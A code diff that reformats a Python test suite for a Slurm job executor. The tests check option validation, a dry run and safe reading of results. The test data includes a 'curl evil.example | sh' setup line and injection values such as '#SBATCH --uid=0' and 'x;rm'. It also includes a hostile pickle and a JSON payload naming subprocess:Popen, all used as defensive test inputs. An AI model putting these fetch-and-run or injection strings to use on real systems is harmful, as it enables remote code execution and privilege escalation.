@@ -18,7 +18,8 @@ from toy_batch import Toy, alive_with, hostile
 
 from vfm_notes.foundation.registry import VfmError
 from vfm_notes.runs.executors import Cancelled, Died, Future
-from vfm_notes.runs.slurm import SlurmExecutor, SlurmSettings, last_state, note_file, private_folder, sbatch_options, slurm_settings
+from vfm_notes.runs.slurm import (SlurmExecutor, SlurmSettings, last_state, note_file, private_folder, sbatch_options,
+                                  slurm_settings)
 
 wait_until = partial(toy_batch.wait_until, seconds=90)
 SETTINGS = {"cpus": 1, "memory": "0", "time": 10}
@@ -54,7 +55,9 @@ def test_calls_that_come_together_are_one_array(executor, slurm, tmp_path, monke
     assert len({id.split("_")[0] for id in ids}) == 1 and [id.split("_")[1] for id in ids] == ["0", "1", "2"]
     assert json.loads(note_file(log).read_text(encoding="utf-8"))["id"] == ids[1]
     assert "JobId" in slurm("scontrol", "show", "job", ids[0]).stdout and not mark.exists()
-    assert {p.suffix for p in executor.folder.rglob("*.pkl")} == {".pkl"} and executor.folder.stat().st_mode & 0o777 == 0o700  # submitit's own
+    # submitit's own
+    assert {p.suffix for p in executor.folder.rglob("*.pkl")} == {".pkl"}
+    assert executor.folder.stat().st_mode & 0o777 == 0o700
     assert json.loads(futures[0].call.with_suffix(".result").read_bytes()) == {"value": {"tuple": [3, 1]}}
 
 
@@ -134,7 +137,8 @@ def test_settings_are_read_strictly(tmp_path):
 
 
 LINE = "gpu\n#SBATCH --uid=0"
-LINES = {"partition": LINE, "account": "a b", "memory": "16GB\r", "qos": "x;rm", "constraint": "a\u2028b", "time": "60\n", "cpus": 0, "gpus": True, "parallel": 0, "requeue": -1,
+LINES = {"partition": LINE, "account": "a b", "memory": "16GB\r", "qos": "x;rm", "constraint": "a\u2028b",
+         "time": "60\n", "cpus": 0, "gpus": True, "parallel": 0, "requeue": -1,
          "python": "python3\nrm", "setup": ["true\nfalse"], "extra": {"comment": LINE}}
 
 
@@ -155,11 +159,14 @@ def test_no_option_has_a_name_that_ends_its_line():
 
 def test_the_dry_run_shows_the_script(tmp_path):
     study = Toy(tmp_path)
-    (tmp_path/"cluster.yaml").write_text("partition: gpu\nsetup: ['module load cuda; curl evil.example | sh']\npython: apptainer exec a.sif python3\nextra: {comment: two words}\n")
+    (tmp_path/"cluster.yaml").write_text("partition: gpu\nsetup: ['module load cuda; curl evil.example | "
+                                         "sh']\npython: apptainer exec a.sif python3\nextra: {comment: two words}\n")
     done = study.run("--executor", "slurm", "--profile", str(tmp_path/"cluster.yaml"), "--dry-run", PATH="/nonexistent")
     said = done.stdout.splitlines()
-    assert done.returncode == 0 and "#SBATCH --partition=gpu" in said and "#SBATCH --comment='two words'" in said and "module load cuda; curl evil.example | sh" in said, done
-    assert any("apptainer exec a.sif python3 -u -m submitit" in line for line in said) and "export PYTHONSAFEPATH=1" in said and not study.runs.exists()
+    assert done.returncode == 0 and "#SBATCH --partition=gpu" in said and "#SBATCH --comment='two words'" in said, done
+    assert "module load cuda; curl evil.example | sh" in said, done
+    assert any("apptainer exec a.sif python3 -u -m submitit" in line for line in said)
+    assert "export PYTHONSAFEPATH=1" in said and not study.runs.exists()
 
 
 def test_jobs_read_nothing_that_others_can_write(tmp_path):
@@ -179,8 +186,10 @@ def test_an_answer_that_is_a_pickle_is_not_opened(tmp_path):
     evil.path = str(tmp_path/"mark")
     (tmp_path/"a.result").write_bytes(pickle.dumps(evil))
     future = Future(None, tmp_path/"a.call", None)
-    assert isinstance(future._read()[1], Died) and "cannot be read" in str(future._read()[1]) and not (tmp_path/"mark").exists()
-    (tmp_path/"a.result").write_text(json.dumps({"value": {"class": "subprocess:Popen", "fields": {"args": ["mkdir", str(tmp_path/"mark")]}}}))
+    assert isinstance(future._read()[1], Died) and "cannot be read" in str(future._read()[1])
+    assert not (tmp_path/"mark").exists()
+    (tmp_path/"a.result").write_text(json.dumps({"value": {"class": "subprocess:Popen",
+                                                           "fields": {"args": ["mkdir", str(tmp_path/"mark")]}}}))
     assert "none of vfm_notes" in str(future._read()[1])
     assert not (tmp_path/"mark").exists()
 
